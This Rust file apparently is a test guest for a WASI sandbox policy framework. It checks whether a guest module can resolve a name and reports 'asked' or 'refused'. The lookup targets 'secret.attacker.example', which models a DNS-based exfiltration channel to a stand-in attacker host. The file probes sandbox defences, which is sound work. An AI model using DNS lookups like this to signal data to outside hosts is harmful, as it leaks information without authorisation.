//! Asks for the address of a name, which tells somebody of it.

use guests::{
    Behaviour, Request, Verdict, good, wasi::wasi::sockets::instance_network, wasi::wasi::sockets::ip_name_lookup,
};

struct Guest;

impl Behaviour for Guest {
    const NAME: &'static str = "look-up-a-name";

    fn validate(request: &Request) -> Verdict {
        let network = instance_network::instance_network();
        let answer = ip_name_lookup::resolve_addresses(&network, "secret.attacker.example");
        let word = if answer.is_ok() { "asked" } else { "refused" };
        good::warn(request, format!("It was {word}."))
    }
}

guests::export!(Guest);

fn main() {}
